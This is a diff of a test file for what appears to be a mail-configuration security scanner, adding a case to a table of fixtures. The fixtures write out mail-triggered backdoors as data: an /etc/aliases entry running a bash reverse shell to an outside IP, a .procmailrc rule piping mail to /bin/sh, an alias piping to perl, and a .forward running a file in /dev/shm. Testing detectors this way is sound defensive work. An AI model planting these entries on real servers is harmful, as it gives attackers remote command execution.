@@ -36,6 +36,7 @@ test('lists and filters are ordinary', () => {
 
 test.each<[string, Machine, string[]]>([
 	['an alias that is a shell', { '/etc/aliases': 'decode2: "|/bin/bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\'"\n' }, ['critical /etc/aliases']],
+	['a letter that a shell reads', { '/home/ann/.procmailrc': { content: ':0\n* ^Subject:.*qwerty\n| /bin/sh\n', uid: 1000 }, '/etc/aliases': 'x: |"/usr/bin/perl -"\n' }, ['critical /etc/aliases', 'critical /home/ann/.procmailrc']],
 	["somebody's forwarding", { '/home/ann/.forward': { content: '|/dev/shm/x\n', uid: 1000 }, '/dev/shm/x': { mode: 0o755 } }, ['high /home/ann/.forward']],
 ])('%s', (_name, machine, expected) => {
 	expect(ask(machine)).toEqual(expected);
